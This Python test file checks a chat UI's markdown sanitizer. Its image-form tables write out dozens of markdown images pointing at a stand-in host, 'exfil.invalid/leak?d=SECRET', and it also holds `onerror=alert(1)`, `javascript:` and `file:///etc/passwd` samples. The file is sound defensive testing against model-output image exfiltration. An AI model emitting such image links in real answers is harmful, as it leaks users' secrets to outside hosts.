"""safe_markdown against every way CommonMark writes an image (issue 13, item 6): whatever the
form, the page gets no image and no URL it would fetch, read back by markdown-it itself and by
an HTML parser."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui.render import safe_markdown

EXFIL = "exfil.invalid"
URL = f"http://{EXFIL}/leak?d=SECRET"
LINK = "http://link.example/v"

# Each one renders as an <img> in a CommonMark renderer (markdown-it shows it below).
IMAGE_FORMS = {
    "inline": f"![a]({URL})",
    "inline, empty alt": f"![]({URL})",
    "inline, double-quoted title": f'![a]({URL} "title")',
    "inline, single-quoted title": f"![a]({URL} 'title')",
    "inline, parenthesised title": f"![a]({URL} (title))",
    "inline, angle-bracket destination": f"![a](<{URL}>)",
    "inline, destination on its own line": f"![a](\n{URL}\n)",
    "inline, parentheses in the destination": f"![a](http://{EXFIL}/p(q)r)",
    "inline, entity in the destination": f"![a](http&#58;//{EXFIL}/e)",
    "inline, backslash-escaped bracket in alt": f"![a\\]b]({URL})",
    "inline, line break in alt": f"![a\nb]({URL})",
    "full reference": f"![a][r]\n\n[r]: {URL}",
    "full reference, titled definition": f'![a][r]\n\n[r]: {URL} "title"',
    "full reference, angle-bracket definition": f"![a][r]\n\n[r]: <{URL}>",
    "full reference, definition over three lines": f"![a][r]\n\n[r]:\n{URL}\n'title'",
    "collapsed reference": f"![a][]\n\n[a]: {URL}",
    "shortcut reference": f"![s1]\n\n[s1]: {URL}",
    "shortcut reference, labels differ in case": f"![Leak]\n\n[LEAK]: {URL}",
    "shortcut reference, labels differ in whitespace": f"![a  b]\n\n[a\nb]: {URL}",
    "shortcut reference, definition before the image": f"[s1]: {URL}\n\nSee ![s1] here.",
    "shortcut reference, definition in a blockquote": f"> [s1]: {URL}\n\n![s1]",
    "shortcut reference, definition in a list item": f"- [s1]: {URL}\n\n![s1]",
    "shortcut reference, indented definition": f"   [s1]: {URL}\n\n![s1]",
    "nested brackets in alt": f"![a [b] c]({URL})",
    "deeply nested brackets in alt": f"![a [b [c] d] e]({URL})",
    "escaped brackets, shortcut reference": f"![a \\[b\\] c]\n\n[a \\[b\\] c]: {URL}",
    "image inside the alt of an image": f"![a ![b]({URL}) c]({URL})",
    "image inside a link": f"[![a]({URL})]({LINK})",
    "image inside a reference link": f"[![a]({URL})][v]\n\n[v]: {LINK}",
    "image in a bullet list": f"- one\n- ![a]({URL})",
    "image in an ordered list": f"1) one\n2) ![a]({URL})",
    "image in a blockquote": f"> ![a]({URL})",
    "image in a list in a blockquote": f"> - > ![a]({URL})",
    "image on a lazy continuation line": f"> quote\n![a]({URL})",
    "image in a table": f"| a | b |\n|:--|--:|\n| ![a]({URL}) | 2 |",
    "image in a table header": f"| ![a]({URL}) |\n|---|\n| 1 |",
    "image in emphasis": f"*![a]({URL})* **![b]({URL})** ~~![c]({URL})~~",
    "image in a heading": f"# ![a]({URL})",
    "image in a setext heading": f"![a]({URL})\n===",
    "image after a hard break": f"line  \n![a]({URL})",
    "image after an escaped backslash": f"\\\\![a]({URL})",
    "image after an entity": f"&amp;![a]({URL})",
}

# Text that only looks like an image, or markup a sanitiser might let through: it must stay
# text (or at most a link, which needs a click).
HARMLESS_FORMS = {
    "escaped bang": f"\\![a]({URL})",
    "escaped bracket": f"!\\[a]({URL})",
    "bang as a decimal entity": f"&#33;[a]({URL})",
    "bang as a hex entity": f"&#x21;[a]({URL})",
    "bang as a named entity": f"&excl;[a]({URL})",
    "bracket as an entity": f"!&#91;a]({URL})",
    "reference with no definition": "![a][nowhere] and ![b]",
    "definition inside a code block": f"![s1]\n\n    [s1]: {URL}",
    "autolink": f"<{URL}>",
    "html img": f'<img src="{URL}" onerror="alert(1)">',
    "html img as a block": f'<img src="{URL}">\n\ntext',
    "html picture": f'<picture><source srcset="{URL}"></picture>',
    "html svg image": f'<svg><image href="{URL}"/></svg>',
    "html img as entities": f'&lt;img src="{URL}"&gt;',
    "image in a code span": f"`![a]({URL})`",
    "image in a fenced block": f"```\n![a]({URL})\n```",
    "image in a mermaid fence": f'```mermaid\ngraph TD\n\nA["#60;img src={URL}#62;"]\n```',
    "image in an indented block": f"    ![a]({URL})",
    "unterminated image": f"![a]({URL}",
    "data url": "![a](data:image/png;base64,iVBORw0KGgo=)",
    "javascript link": "[a](javascript:alert(1))",
}

# What markdown-it writes for Markdown; nothing else may reach the page. `style` holds only
# table alignment.
ALLOWED_TAGS = {
    *("a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "s", "strong", "ul"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ALLOWED_ATTRIBUTES = {
    ("a", "href"),
    ("a", "rel"),
    ("a", "title"),
    ("ol", "start"),
    ("th", "style"),
    ("td", "style"),
}
ALIGNMENTS = {"text-align:left", "text-align:right", "text-align:center"}

# Read the output back as Markdown, as a frontend that still parsed it would. gfm-like without
# linkify: linkify-it-py is not installed, and linkify only ever makes links.
REPARSERS = {
    "commonmark": MarkdownIt("commonmark"),
    "gfm-like": MarkdownIt("gfm-like", {"linkify": False}),
}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def _elements(shown: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Elements()
    parser.feed(shown)
    parser.close()
    return parser.elements


def _all_tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _all_tokens(token.children or [])


def _assert_shows_no_image(shown: str) -> None:
    assert "<img" not in shown.lower()
    assert "!" not in shown, "no `![` for any Markdown parser to open an image with"
    assert "`" not in shown, "no fence for any Markdown parser to hand to Mermaid"
    # ui/chat.py puts Markdown around some messages (`**refused:** …`, `_…_`): then a parser
    # reads the text between our tags as Markdown too.
    for composed in (shown, f"**refused:** {shown}", f"_{shown}_"):
        for name, parser in REPARSERS.items():
            kinds = {token.type for token in _all_tokens(parser.parse(composed))}
            assert "image" not in kinds, f"{name} reads an image in {composed!r}"
            assert "<img" not in parser.render(composed).lower(), name
    for tag, attrs in _elements(shown):
        assert tag in ALLOWED_TAGS, f"<{tag}> in {shown!r}"
        for attribute, value in attrs:
            assert (tag, attribute) in ALLOWED_ATTRIBUTES, f"<{tag} {attribute}> in {shown!r}"
            if attribute == "style":
                assert value in ALIGNMENTS, value
            if (tag, attribute) != ("a", "href"):
                # Only a link's target may name the host: a link needs a click.
                assert EXFIL not in (value or ""), f"<{tag} {attribute}={value!r}>"


@pytest.mark.parametrize("markdown", IMAGE_FORMS.values(), ids=IMAGE_FORMS.keys())
def test_every_commonmark_image_form_shows_as_removed_and_its_url_never_reaches_the_page(
    markdown: str,
) -> None:
    images = [t for t in _all_tokens(REPARSERS["commonmark"].parse(markdown)) if t.type == "image"]
    assert images, "the input itself is an image in CommonMark"
    shown = safe_markdown(markdown)
    _assert_shows_no_image(shown)
    assert "[image removed: " in shown
    assert EXFIL not in shown


@pytest.mark.parametrize("markdown", HARMLESS_FORMS.values(), ids=HARMLESS_FORMS.keys())
def test_text_that_only_looks_like_an_image_stays_harmless(markdown: str) -> None:
    _assert_shows_no_image(safe_markdown(markdown))


def test_every_prefix_of_a_streamed_hostile_answer_shows_no_image() -> None:
    # The chat renders the answer again at every token: half-written forms must hold too.
    answer = (
        f"Here it is: ![a [b] c]({URL}) and ![s1].\n\n"
        f"> ![q]({URL} 'title')\n\n| x |\n|---|\n| ![t][r] |\n\n"
        f"[s1]: {URL}\n[r]: <{URL}>\n"
    )
    for end in range(1, len(answer) + 1):
        _assert_shows_no_image(safe_markdown(answer[:end]))


def test_links_keep_web_and_mail_targets_only_and_carry_no_referrer() -> None:
    shown = safe_markdown(
        "[site](https://example.org/a) [mail](mailto:a@example.org) <https://example.org/b> "
        "[here](/gradio_api/upload) [js](javascript:alert(1)) [js2](JAVASCRIPT:alert(1)) "
        "[data](data:text/html;base64,PHNjcmlwdD4=) [file](file:///etc/passwd)"
    )
    hrefs = [dict(attrs)["href"] for tag, attrs in _elements(shown) if tag == "a"]
    assert hrefs == ["https://example.org/a", "mailto:a@example.org", "https://example.org/b"]
    assert shown.count('rel="noopener noreferrer nofollow"') == 3
    assert "[here](/gradio_api/upload)" in shown, "a link to this server's routes stays text"
    assert "[js](javascript:alert(1))" in shown


def test_markup_and_code_in_model_output_show_as_written() -> None:
    shown = safe_markdown(
        "Use **care**: <b>not bold</b> & `a < b && c`\n\n```python\nif a < b:\n\n    run()\n```"
    )
    assert "<strong>care</strong>" in shown
    assert "&lt;b&gt;not bold&lt;/b&gt; &amp;" in shown, "raw HTML shows as text"
    assert "<code>a &lt; b &amp;&amp; c</code>" in shown, "code escaped once, not twice"
    assert "<pre><code>if a &lt; b:&#10;&#10;    run()&#10;</code></pre>" in shown
    assert "class=" not in shown, "no language class for a frontend to act on"


def test_a_markdown_parser_run_over_the_output_takes_it_as_raw_html() -> None:
    # The output is one line (code keeps its newlines as character references), so a
    # CommonMark parser reads it as HTML blocks only: the same page with render_markdown
    # left on. markdown-it checks it here; Gradio's marked follows the same block rules.
    shown = safe_markdown(
        "# Title\n\nText *with* [a link](https://example.org).\n\n- one\n\n- two\n\n"
        "> quote\n\n    indented\n\n    code\n\n| a |\n|---|\n| 1 |\n\n```\nx\n\n\ny\n```\n"
    )
    assert "\n" not in shown
    tokens = REPARSERS["commonmark"].parse(shown)
    assert {token.type for token in tokens} == {"html_block"}
